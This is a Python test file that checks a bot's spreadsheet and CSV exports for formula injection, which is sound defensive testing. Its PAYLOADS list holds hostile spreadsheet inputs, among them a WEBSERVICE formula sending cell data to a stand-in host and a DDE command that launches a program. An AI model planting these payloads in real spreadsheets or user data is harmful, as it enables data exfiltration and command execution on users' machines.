"""Issue 14 item 4: nothing a user typed or a file imported becomes a formula in any export.

Every free-text field of a small data set holds a formula payload (OWASP's list: a leading
``=``, ``+``, ``-``, ``@``, tab, CR). Every cell of every workbook is then scanned: no cell is a
formula (the layouts put none there), and every risky text is a string cell with the quote
prefix; the rejects CSV has OWASP's apostrophe in front of each risky field.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from bot.domain.formulas import is_risky, neutralise
from bot.services.stats import Scope
from bot.storage.db import Database
from tests.stats.every_export import Built, rejects_exports, seed, stats_exports, training_exports

PAYLOADS = (
    '=HYPERLINK("http://x.example","bấm vào đây")',
    "=1+1",
    '=WEBSERVICE("http://x.example/?q="&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
)


def payload(i: int) -> str:
    """A different payload (and so a different text) for each free-text field."""
    return f"{PAYLOADS[i % len(PAYLOADS)]} #{i}"


def _scan_xlsx(built: Built) -> list[str]:
    """Every cell that is a formula or a risky text not kept as text; "" when clean."""
    found = []
    for ws in load_workbook(io.BytesIO(built.data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{built.name}!{ws.title}!{cell.coordinate} is a formula: {cell.value!r}")
                elif isinstance(cell.value, str) and is_risky(cell.value) and not cell.quotePrefix:
                    found.append(f"{built.name}!{ws.title}!{cell.coordinate} lacks the quote prefix")
    # And in the file itself, whatever a reader library makes of it: no <f> element anywhere.
    with zipfile.ZipFile(io.BytesIO(built.data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name)):
                found.append(f"{built.name}:{name} holds a formula element")
    return found


def _payloads_seen(built: Built) -> int:
    wb = load_workbook(io.BytesIO(built.data))
    return sum(
        1
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and any(p in cell.value for p in PAYLOADS)
    )


def _risky_cells(built: Built) -> int:
    wb = load_workbook(io.BytesIO(built.data))
    return sum(
        1
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and is_risky(cell.value)
    )


async def test_no_export_holds_a_formula_from_user_data(db: Database) -> None:
    t1 = await seed(db, payload)
    built = [
        *await stats_exports(db, Scope.province()),
        *await stats_exports(db, Scope.team(t1)),
        *training_exports(payload),
        *[b for b in rejects_exports(payload) if b.suffix == "xlsx"],
    ]
    names = {b.name.split("_")[0] for b in built}
    assert {"10c", "results", "kh115", "sotheodoi", "attendance", "contest", "rejects.xlsx"} <= names
    problems = [problem for b in built for problem in _scan_xlsx(b)]
    assert problems == []
    # The scan looked at something: the payloads did reach the cells (as text).
    # (The province's indicator table names no commune or team: it alone has no user text.)
    assert [b.name for b in built if not _payloads_seen(b)] == ["kh115_tinh-lang-son_2026-Q2.xlsx"]
    # Cells that start with a payload exist (names, summaries), so the prefix check had work.
    assert sum(_risky_cells(b) for b in built) >= 20


async def test_the_casebook_keeps_the_summary_as_typed(db: Database) -> None:
    t1 = await seed(db, payload)
    (casebook,) = [b for b in await stats_exports(db, Scope.team(t1)) if b.name.startswith("sotheodoi")]
    texts = {
        cell.value
        for ws in load_workbook(io.BytesIO(casebook.data)).worksheets
        for row in ws.iter_rows()
        for cell in row
    }
    # Printed exactly as the mediator typed it (no visible apostrophe), but as text.
    assert payload(10) in texts and payload(11) in texts


def test_rejects_csv_neutralises_every_risky_field() -> None:
    (built,) = [b for b in rejects_exports(payload) if b.suffix == "csv"]
    rows = list(csv.reader(io.StringIO(built.data.decode("utf-8-sig"), newline="")))
    fields = [field for row in rows for field in row]
    assert fields, "the rejects file is empty"
    assert not [f for f in fields if is_risky(f)]
    assert "'" + payload(79) in fields  # the original text is kept behind the apostrophe


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84912345678", "'+84912345678"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Nguyễn Văn A", "Nguyễn Văn A"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_neutralise(text: str, expected: str) -> None:
    assert neutralise(text) == expected
